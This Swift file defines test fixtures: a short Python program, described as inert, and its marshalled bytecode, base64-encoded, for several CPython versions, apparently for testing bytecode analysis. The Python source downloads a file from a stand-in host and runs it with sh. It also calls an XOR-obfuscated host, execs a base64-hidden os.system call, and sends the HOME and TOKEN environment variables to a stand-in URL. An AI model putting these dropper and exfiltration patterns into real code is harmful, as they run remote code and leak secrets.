// Made by marshal.dumps(compile(source, "p", "exec")) of each version, zlib and base64; the source is `source` below.

/// Marshalled code of one inert program by the version of CPython that compiled it.
enum MarshalFixtures {
    static let source = """
        import os
        import urllib.request as web
        from base64 import b64decode

        class Stage:
            def run(self, path):
                with open(path, 'wb') as handle:
                    handle.write(web.urlopen('https://h.invalid/x').read())
                return path

        def start(path, hidden=True):
            import subprocess
            subprocess.Popen(['sh', path], shell=False)

        start(Stage().run('/tmp/x'))
        host = ''.join(chr(ord(c) ^ 3) for c in 'kwwsp9,,g-jmubojg,{')
        web.urlopen(host)
        exec(b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))
        for name in ('HOME', 'TOKEN'):
            web.urlopen('https://t.invalid/' + os.environ[name])
        """

    /// By minor version: 6 for CPython 3.6.
    static let code: [(minor: Int, base64: String)] = [
        (
            6,
            """
            eNptU0tv00AQ3l0/krhJKU15CioOXCyVpKilUlFbgdpSoJDShyiyVFm2d4ljHNtdO00U0lN6Rdz4D/ylvXLqX+DErNOg8LA04/HO\
            zOqbbz7/QBOPBvYMLP0GjiKKQ2SN3jgglgIRCdW2ZmkY7SCqUPUCUXVILJ1epzotXGCrwApMH6KgSItDPMQY0VJQogadgsryFpJn\
            lsGUYIoZMsvKTKOVUWXvAZ3dQie3rYrM0xmGgmlWuYNuIZk9PTsGHIfIrF5KpA0Ti5K7skyZF4NNDkHGQ8yBY8jCFFmEYkouEIyg\
            wBWq0A4zp8k8ctWigBlgm7KtBi5DA0zxkHy9e04GJMAZCRRKhjhQhzkawIL20QH6AHVwodIQpOv2q36WJenTet2vtaIzJ2zRes/U\
            hBonLBJal7cyJpQuc0Whw8P8UOXMoaYi1JSFH4WaOJlv6b4T0ZB9R7wMSAROhMI7kS6hSYdwGc/jfimfoAaZBsxTtO3IaTPbFoZt\
            t2PaCWVctu3TjhOOMnwaevMrJ1xFOuVq86mko4jz76M/uFHH3MxLXQChIRrxQskANYlUwhcCu0bAhdbgGKoskvovYEla6rMwNIkw\
            0o6b8NhjaSq0d3J6U+FTslL3W5SyiFf/xQbtmcMzWZaq+fCA7wa8+3o9ayf1nkAenti7rPHGQAfo5OY5zlCGByAwip7D6t4jkBLJ\
            hUQulVxIRCiez4UScwoxqS0K7P0F42dprcki1kv4xsyYKBXxexJI9VO3myarCwvNR0G748ZBc+Fz/6Fz/LjrLr1efLWz2t9sr/bf\
            RI0n3tJB6B42I+d4P9rdX18X6su9t9tCO9rb3W70Z8fiyX6Lx8RHJuH3JQo5j3lNkDi1pkE8YcutcXbaYWlmFa4CXpCE6a6TspVl\
            TsabzenKly/UIG6B5vwYiov5AesxT6hSIKLAorMWj6P/SUQU10ai2sDjH6uIDVwm07qhzuA5GYP9Akvu9eA=
            """
        ),
        (
            7,
            """
            eNptU0tP20AQ3l2vncQkgQLqU0I99GKJJlRQJCpArYDSljaUh0plCUW2dxsndeywdkiUhlO4Vr32mBz7l/Yf8Bd66qwhVfqwNOPZ\
            3Zn1N9989tDEY4A9B4u/g2OI4QDZ12/cJLaGVUwC2tRtHaNdxDRGLxGjA2IbbIYZLHOJ7QzPcGOAhlmWHeEBhprcMMdMNgWZ+W00\
            wCNsm1wbTnFzBKc8z3VWGKSZ3YesuI1O79oFdc6mOWoUeeEeuoNU5ln3BJAcIevWlcJasbDMuasrjHsR2GQbZNzGPDiObMyQTRhm\
            5BLZGtPgCir1o8SpcY/clGhgObAtVVYCl6A+ZnhAvt2/IH0yxAkZaoyM8JCOUjSABR2gQ/QR8uBCrSJJx+3N+UnSip+Vy36pHp47\
            QZ2Vu5YuadTiodQ7op5wqXW4KzNtEaSbVHCHWZqkMQ8+SdpyEt82fCdkAf+BxBQgkbglNdEO1XBi5RDO4wXcy6UdlOCkAv1kq9XQ\
            afJqVZrVajNi7UDF+Wr1rO0E1yeiALXplRMur5xiQVfXqyCL0/XxH9zQMTcLShlAaIAULw0gtY9qRCnhK1H6AC70ilBlNon9lzAk\
            PfZ5EFhEmnHbbYnI43Es9feqe0sTpso0/DpjPBSz/2KD8sQRiVrHNG0e8Km59oxy0myVuxJ5eGLuKscbA+2j09sXOEEJ7oPAGHoB\
            8vuAQEokFRK50lIhEal5vpBaJBjEpLQksfcXjJ+59RoPebclNmfGRFEkHiggc587nbi1trhYe9xott2oUVv80nvknDzpuMtvll7v\
            rvW2mmu9t2Hlqbd8GLhHtdA5OQj3DjY24Gv01f67HVs/3t/bqfRmx/JJfsvHwsfWtCRRbBdBMkHdLQl+1uZxYmduAqE0IQ3Xifnq\
            isDjeaYkpSOXtBHVQ5v6ESRn0g3e5Z6kShYyw8PzuojC/wlDZtevpbSJx79TFsSXJ0XDpDN4HpuwMvEvrwj1cg==
            """
        ),
        (
            8,
            """
            eNptU81O20AQ3l2vncQkgQLqr8SpF0s0oeJHogLUCihtaUMpqFSWUGR7t3FSxw5rh0RpOIVr1UsfIDn2lfYNeIvOOk2FQi3NeNYz\
            s/vtN589NPUYYC/B4l/gGGI4QPb4jZvE1rCKSUCbuq1jdICYxug1YnRAbIPNMYNlrrGd4RluDNAwy7IjPMDQkxvmmMlmoDK/hwZ4\
            hG2Ta8MZbo4gy/NcZ4XBuLK4h84f2gWVZbMcNYq88Ag9QKru4pLhE2Tdu1E4KxaWOXdjjXEvApu+BplcYxEcRzZmyCYMM3KNbI1p\
            sA2V+kni1LhHbrVpYDmwXdVaApegPmZ4QH4+viJ9MsQJGWqMjPCQjlJMZ2gdHaNP6AvUwaZaRZKO21vwk6QVvyiX/VI9vHSCOit3\
            LV3SqMVDqXdEPeFS63BXZtoiSD9SwR1maZLGPPgqactJfNvwnZAF/DcSM4BE4pbURDtUA4qVQziPl3Avl96iBJkK3ClbrYZOk1er\
            0qxWmxFrByrOV6sXbScYZ0QBetMtb7m8cooJXW2vgixO16d3+KETfpaUQoDYACluGkBuH9WIUsQPonQCfOgVodpsEvuvYWB67PMg\
            sIg047bbEpHH41jqHxUDliZMVWn4dcZ4KObv4oP2xBGJWsc0JQAwqvn2jHLSbJW7Enl4SgOqzpuA7aPz+1c4QQnug9gYegVS/IxA\
            WCQVFrnRUmERqXm+kFokGMSktCKxNw0lt1XjIe+2xM7cBA6FA8UTBWfhW6cTtzaXl2vPGs22GzVqy997T52z5x139d3K24PN3m5z\
            s/c+rKx7q58C96QWOmfH4eHx9jacR98cfdi39dOjw/1Kb34ipOSfkCx8as1KEsV2EcQT1N2S4BdtHid25m8glDqk4Tox31gTeDLZ\
            lKp0+JI2onpoUz+C4kz6gXe5J6kSiMzw8LIuovB/EpHZrbGodvDk58qCDPOkaJh0Di9iE1ZZ/Af2BvQw
            """
        ),
        (
            9,
            """
            eNptU81O20AQ3lmvnR/CTwH1R5V64hKJJlAoEhWgtkBpSxtKQUW1hCLbu42TOnZYOwSl4RSuVS99gOTYV9o34NwX6KxpKgT1asaz\
            uzPrb7/57JEbj4X2HC3+iY4TDgGxr97QpLYBOqYBa5q2CWSHcIOzC8JZn9oWn+IWz1yAnREZYfXJIMuzQ+gD1uQGOZ7nY5hZ2CJ9\
            GIKdF8ZgTOSHuCsKwuTj/avMiS1yfN8e17t8UpDGhBh/QO4RnXdyyuGAFO9capyVIqicu7LMhReh3bwGHV1jFp0gNnBiUw6cXhDb\
            4AYew5R5kDg14dFrZQZaFm1Tl75El5AecOjTH3PntEcHkNCBwekQBmyYYjpCPhiOPjITTi2SeHmBQDo+o/U0XqOiaMftzvhJ0oqf\
            lct+qR6eOkGdl8+KpmJRS4TK7Mh6IpTREa7KtGWQLjIpHF40FItF8EWxlpP4tuU7IQ/ELyLHEJ2CljJkO9RNi7UjUIAn0M2lNyvh\
            TgXvma1WQ6cpqlWVr1abEW8HOi5UqydtJ7jakeNYmx55zRW00+yY+ngdZCGdH97ijI04e6RVg2QHRPPVQMJ7pEa1Sr5TrR3kw6xI\
            XWbT2H+FTTRjXwRBkap83HZbMvJEHCvzg2agaMi8zrT8OucilNO38WF54shEz2OWEoAYdc+7VjlptspninhwQxc6zxuB7ZHju+eQ\
            kAR6KEBOXqA8P2HrTmgqNnpppGKjyvB8qYxIcoxpaUGBdxNKbq0mQnHWkhtTOP2tPycfaigzXzuduLU6P1973Gi23ahRm//WnXOO\
            Fjvu0tuFNzur3c3mavddWHnqLX0M3INa6Bzth7v76+v4LfZ67/22bR7u7W5XutMjESX/RFSEw+KkolFsT6BwgrpbkuKkLeLEzvwN\
            pFaGslwnFivLEkZdTWlKG69YI6qHNvMjTM6kC+JMeIppcaiMCE/rMgr/Jw+VXbsS1AaMfrYsSrBAJ6w8m4JZyOMsC38AzG72fQ==
            """
        ),
        (
            10,
            """
            eNptUttO20AQ3V2vncQJlwLqRUioD32xRAkIikQLqBVQ2tKGtqCiWkKR7d3GSR07rB2C0iC1Cq9VX/oByWN/af+AnyiddQhCUFsz\
            Hs3OjM+eOR668Rhgz8Hi3+AYYjhA9uCL68TWsIpJQOu6rWO0jZjG6BlitEtsg40zg2XOsJ3hGW50US/Lsn3cxdCT6+WYyfJQWdhE\
            XdzHtsm1Xp6bfTjlBa6zke6gcnQTHRbsEXXKxjiqjfKRB+geUnVHzxjeQ9adc4WzZGGZc5eXGPcisJvXIMNrTIHjyMYM2YRhRs6Q\
            rTENxlCp7yVOhXvkWpsGlgXbUK2b4BLUwQx3ya/JU9IhPZyQnsZIH/doP8V0AHxQeLvATAfQLaB4ugV59X5Gg5yllSRpue1JP0ka\
            8dNi0Z+rhsdOUGXFE0uXNGrwUOotUU241FrclZmmCNIkFdxhliZpzIMvkjacxLcN3wlZwP8gkQd8EjekJpqhWltcAFfAd7F5Qcn4\
            X0raufSGc3Begvtmy+XQqfNyWZrlcj1izUDFhXL5qOkEgxMxAiPSwdecGisUS7r6CU0pKuA0s3+LPTpkb0bpB2gPkGKuBtR3UIUo\
            vfwkSkXAi14Sqs0msf8S1qnHPg8Ci0gzbroNEXk8jqX+XjFhacJUlYZfZYyHYuI2QmhPHJHkrzACEUJtv20Uk3qjeCKRh28oRNUp\
            6cQPwf1AHXSYP8UJSnAHxMjQC5DqJ1jiEUmFR861VHhEap4vpBYJBjGZm5fYuwkmt1rhIT9piPXxISDyfQaJaQVo8murFTdWZmcr\
            j2v1phvVKrPf2o+cg4WWu/hm/vX2SnujvtJ+G5aeeIsfA3evEjoHH8KdD2tr8D/6avfdlq3v7+5sldoTQ0klV5Ky8L41JkkU26Mg\
            o6Dqzgl+1ORxYmcuA6HEIg3XifnyksDD7aZkpQKQtBZVQ5v6ERRn0gQ/4Z6kSiQyw8PjqojC/8lEZlcHwlpXY+P7l1op4FFiGuN0\
            CpsQq83Qi38VavqR
            """
        ),
        (
            11,
            """
            eNqFVM9vE0cUfjM7a8eJnRASiqxAlSqpiiUaJw1JSIAISChtQ0MpUVGsItf2TG2H9drsrnHkBrFFkaAVVYNElRxayaoq1Ioe+i9w\
            69GLVsIaqVKP5RYUDqinzqzjEIdAd2a/nXmzb+b9+iYF2x7f5nfjCwSwChQo0iBW/6IcjilIjrFGcmpMRYDhLFBlGSi5jwEe4MY2\
            MR9tp75lFPNjYPL13RfSB1vHVFpgl4f674tTH6DGvHkmTm6pBHbVCwgLWqeh+Yxm7VirsEJZaGvMWevO3cV6ULwqbfsfK4LTcLk3\
            Fmrej4YYLLRv7R4Kb9lR3mWPO29RdBEiHU/kdDaCeCA5eoSyVF682z1rqGx0g0wHgxiiEMMULUNMoVhsoXD1opVIsxTekUVFqv3p\
            qVnoxdISoqg5VyNwHS/hCtotspb6YrygbPmKm/2pkN10X5cNr4pEa7YEgd7WB0NgkhJeVOahhBDMCykSVktXZzkuJctdGcsqmBPR\
            aGYgq19LaFkaXYyonOQLTOdqychajCslluT+oqF5QmKwBBWRIibTvuSkkLAy3JdJ6FRjpnSqt7eXowJXjKJeDnjRHBBDGUTzZwE2\
            /BXqXOlfI07ooBs6uA4oMI0qb9SCe78/9+25n7p+7Km+PeGEj7nhY4/DJx+FTzrh0274tBOccoNT1eDUuiIV6mp1fOrhM9gpfxU+\
            f/78VUt/d3TdbjM7hZl3J07tVx7uJ6d6/A/fRAJnI4S3xON6Isficd4aj+fytKjJcTAev1pMaPUVY49Q/g02ZAaMDgmkATL7Zp8X\
            gkZbx4ravQ4vg7GvoTXXVIukUYsnvVqkooC111QcxUuQxlT5neysDQqiBtRZQ6pxbGbeF7RRzQzTtAjmrWYxWTDyKWaaXP1EZj2i\
            GCH5py+TpZTphiRkI9uem0LZShiWcUCMJY3NIc/RGtlXbfQaaX9Muh+R7hW6Nr3y+a9C1u2QqEui1Ub33C77olauEF3kkEI7aCij\
            tzEnYEa4sApLcLnvOtpOSEvZTs5mmlAoB3dS5zNYFbS40+9dIPiJ4l0gmCupjMGVvEHFGA8McpQysees5+u/geNpprPFgjFp9Iu5\
            TLn5noB/RLOh2j4pemXoO/OH4ZWrd0fvja6dujvxzY07N+or23vd4a4rpZJZGD98OP3uQq6YzC+kD39V7k9cGiolhz8a/PDseHkq\
            N14+p8+OpIY/1ZIX03ri0gV95sKJE8I+8sH5j89wde78zJnZ8t4Gna0tOkfQXKSD47zJ2wWFtWxywGBXi8y0uH9zYAS81CYTJhs9\
            YuCtopW59OqZk4V8VjA/kxc/t3oCtshSnMia536mX8saed2Q12q9cL0otRyvU2TSGNy8fM0egYLACNUgYHutBgeqzf1lyTohSNDi\
            ZXgq4dkLWRCjwXVohhZAPlu1mc2+Ti+nb125eWXlkOPrcX09Dhxw6yf6A7dKN0ubSTl0QqDTPukK9E+6/kmb1KDNVpbbbk870OlC\
            ZxU6a0BsYs/b89WOEUcdddVRB8ZcGKvCWC0oLzU07oE9XSMd9tTyTHVPf8X4pfxHv/vOmLNnzCFHXXK06nUZkPrfXvD+A5k2xL8=
            """
        ),
        (
            12,
            """
            eNp1VN1PHFUUP/fOnV122eVzaUKABFPUboIshAKChRShVgturTRp2Nhsdvde94PZD2Zmu7DSyCoJNakBoxFMTMQnNajxX/A/AJem\
            eKuJj/atyAPKk/cODLRAZ/eeOXPnnHPPOb/fmRg8dTkO77sDCGAFKFCkQejgjtI4pCCpY42k1ZCKAMNVoMoCULKODxxDDuql6gIK\
            OTEwuRzrhyFTtXDqoo51dKDZdxHfmao/w7JCnOIaBTuabR9yizOU1LnTHsx9HFPYeMRSqfuM8ypH4XabiOR9XiTqYZBqPuMEb6OQ\
            xWei3X+JwCzyVz2Wj0E/4q5o70XKYlmxnvZFdqPrQDaaQQhRCGGKFiCkzGK/wtUJMxJnMXwCHUU6/Ww5mXYQmEMU2Qj0wF08h1PK\
            6XxN1dZSjjOqxHYVKdfptyf7bvFA/OxTkchhAs5DFxiogBFMip2DvRllEgrIrwQ5LkSL9QnTzBkDgUCiI5m5E9GSNDDjVznJ5liG\
            qwU9aTKuFFiUO/O6Zm0SnUWo6AcxmPY+J7mImeCORCRDNWbIIltbWznKcUXPZ4ouq2cdQpUFGteEmIc/vLXLbauk7G15Asg1itbO\
            bXvqlsY/Gf+6/pumr5o2XhwoN772sPHyZuPlcuPrW56RPUWa/VVdf69yTz1S941KEe7T7mG38qtbHfY5g37CK8LhTCTNwmHuDofT\
            WZrXpO4Jh6fzEe3gjV4j3H6AXdklvVoKYguJh+EUYgF2saL69Ab7zTOwExv2Xgt2KpiiPRdkiucgjqnyIzmGZhb8alCXyHFsJN4Q\
            rFSNBNM0P+ZuIx/N6dkYMwyuviMb7ld0r7R0JJKUsowuOW432spfOJsR3dTlRMiWGM1Wmx+Rhm1S9ZD4Nolvma6OLr/3fcMG8T0g\
            AausoiNgpnOBGQ4xdILS52VtEqsxkesKzMHtJoC76JjepnJMdJuAFIqeYzp+iVaQGL4WOXw/KYJu+LFiDSDmSiyhcyWrU6Hjjk6O\
            Yga2qrGK2XddirMMm8npQ7r4CECNXdDf8O88/FY1tNZ13/iie3n6897V4c8Glj7crBr6z5CIfPTCeVSsnyoUjFx/e3v8lVQ6H82m\
            4u0fFNsit7oK0e5rnW9d7S+OpPuL45lgT6z7XS06Ec9Ebt3IjN0YHBTZkDevv32Fqzevj10JFuvswTCPBsOPbvqrOc4avEoMg5aM\
            duhsOs8MkzsPFd1lIRWNGKz3oo6PyCULsHjHSSqbFDOUyApjt7XBZliME8lN7mSZO0k9m9F90r7BJuh+xaUDKg/pnYefKmNJiCcK\
            QugRuP6EZvHfIwT5dkCIXQ9GnTsVgBwl9nF8cao0tXyh7GjaguZtp2uxUCqInm1cGNyqGio7h+bJNlTOK4uVpcp7o1tQ+zuQ0uRG\
            dU9Z7d2Cvm1Pyz+AUP/86Dapnh9ZHCuNbdS0renfFb8t/tK2+XLfZk3fA/Lqjsik30r4f2AYZow=
            """
        ),
        (
            13,
            """
            eNp1VN1PG0cQn73ds/EnEENUPuMSULAEmIivQgMKTdKmGJzGFxRVsXQ624dtMGezd8bIfQhQKaRSq1C1kaKqUtOntm997lv/Awio\
            oUsr9ZW3pmkVtU/dO/sgAeKP2bmd2Zn57fzmkvDSx1Fdn19GAA9BAglFgFZWNCVQHDR1IUKmRCoG4Q3oAAk3g0SGhMpB6pB8ktgM\
            84g6484OiDs6YKgaNFYPJz6SYwhVNHvlGZyxwCmeNTyPK3AYzfan7jiOnT3pz3O7j2LGvfxZ5NW6T8nnCcD1Lh7J97pIkjcOsdaT\
            lrhP5LL3lWgzFwA8fE2jkP/A3IqGEHMlhgdTajLP/y+fR/Z1N4N53XGgSAIqSIhiSWgGSiRMxTQJiUyUDCWtHpjpksKxhmEzwk9W\
            hDt2RJhFErKbIoAmzAoxfBLAHWJrMcepwAUbWMx10n68FRY5+NfOG+RVdMKb0APdVc8U95wTgnCO2yrWcXwO5lAIR5lQSpQDGcMo\
            6GPhcKYvqy0ruWwqvMLRk3xB1ZhYollDZbikJpizSHPWJqGqkgphRnQ1N8dIQTEyzJFRtFRO1U3AwWCQoQLDtKgxl3WJfVw1werX\
            uFiF33z1m52PyK6v7fHZPe+ZB9OfTH8d+Kblq5atrrGdprefNl3ebrq80/TOrvfKCwz+9j9qA/c9L0Su8SPWw3+6h0f6bHDSg3/2\
            uCebnT/wnjtYjSxryqIqy8wty4v5VDFn6l5ZXioquaqlVpbnslQ3cllN1fKyTM0RYY2yrBuKkU3KimHQbKJoqDq3mUPx3KJ8nSmI\
            LUxS6E4u7sE/AhYbaJNteYUqok2VfosqEqda5LXEkIRZCAsSlsgob1caQmKUml1mgp55lxNa1DNqLhcSmFsvJgo0n1R1nYkfmC0J\
            Yeo3PR2ZbCqlarTNLK/aCqtyfthQqEGDYE4KN7ZajdgnjXvE/5Q0bJOGzdSjq5vx7xu3SMMTErYAlR1hY7EQXmGQRMcG4LyJKmop\
            QY5sFq7ziBo6GoY7+GgsbLJK0Os9ou4yPOTvs5l2e3ZHMCelcICt+RUYTmYow3ma4rrQ189QUhcsRBVArktpVVNXCnSCmkw393QT\
            3QGHteWf2O4ef3zxU/3Lgc2lL4YfTX4+9uDu/btPusf/1c0mrZ/vQuXAQqmkF0Z7etK984vFRH4+3fNRuVO5fbGUGJjqf/+90fKV\
            xdHytBYdSg7EcgkprSm3b2qRm+PjvCJy/cbMNSbeuhG5Fi2fsUfIOByhELoVqmVCXmd+Pja5bKKPqktFVTeYs6pQt9WxhKKrw4NU\
            OKSXCaLCSTKfz/Jpy+S5s8faUFfUJCMmkZlT1ZazNK9ZFK3Qz7qXmksV3k/QwerbTr/HxZ8YIbQPrt+hlf9eEIIangEXf3sF1P+s\
            BpBjTf04vbGwtrDZveNo2YXWPadro7RW2rbucsc/seOcWCV7gDc86577V3eh/lcgax9u1Q7tiMO7MLLvbVu9ukecG5H1yFZd52P6\
            Xfnb8o+d2xdGtutGfiFv/YXB127V+T8hPGjZ
            """
        ),
    ]
}
